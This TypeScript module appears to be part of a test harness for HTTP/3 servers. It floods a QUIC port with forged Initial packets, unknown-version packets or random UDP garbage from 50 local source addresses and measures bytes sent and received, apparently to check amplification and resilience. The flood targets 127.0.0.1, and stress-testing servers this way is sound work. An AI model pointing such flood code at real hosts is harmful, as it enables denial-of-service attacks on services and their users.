/** Floods of UDP datagrams to the port of HTTP/3. */
import { randomBytes } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';
import type { Target } from './attacks.ts';
import { addressOf } from './attacks.ts';

/** An Initial packet that is no packet of any client: its content is random. */
function initial(version: number, tokenLength: number): Buffer {
  const bytes = randomBytes(1_200);
  bytes[0] = 0xc0;
  bytes.writeUInt32BE(version, 1);
  bytes[5] = 8;
  bytes[14] = 0;
  bytes[15] = tokenLength;
  return bytes;
}

const datagrams = {
  garbage: () => randomBytes(1_200),
  initials: () => initial(1, 0),
  tokens: () => initial(1, 60),
  unknownVersions: () => initial(0x1a2a3a4a, 0),
} as const;
export type DatagramKind = keyof typeof datagrams;

interface DatagramFlood extends Target {
  readonly port: number;
  readonly kind: DatagramKind;
  readonly perSecond: number;
  readonly durationMs: number;
}

/** Sends from many addresses and ports; returns the bytes in both directions. */
export async function floodDatagrams({ port, kind, perSecond, durationMs }: DatagramFlood) {
  const packets = Array.from({ length: 64 }, datagrams[kind]);
  const sockets: Socket[] = [];
  let receivedBytes = 0;
  for (let at = 0; at < 50; at += 1) {
    const socket = createSocket({ type: 'udp4', sendBufferSize: 4_194_304 });
    socket.on('message', ({ length }) => {
      receivedBytes += length;
    });
    await once(socket.bind(0, addressOf(at)), 'listening');
    sockets.push(socket);
  }
  const startedMs = performance.now();
  let sent = 0;
  for (let elapsedMs = 0; elapsedMs < durationMs; elapsedMs = performance.now() - startedMs) {
    for (; sent < (elapsedMs / 1000) * perSecond; sent += 1)
      sockets[sent % sockets.length]?.send(packets[sent % packets.length] as Buffer, port, '127.0.0.1');
    await delay(1);
  }
  for (const socket of sockets) socket.close();
  return { sent, sentBytes: sent * 1_200, receivedBytes };
}
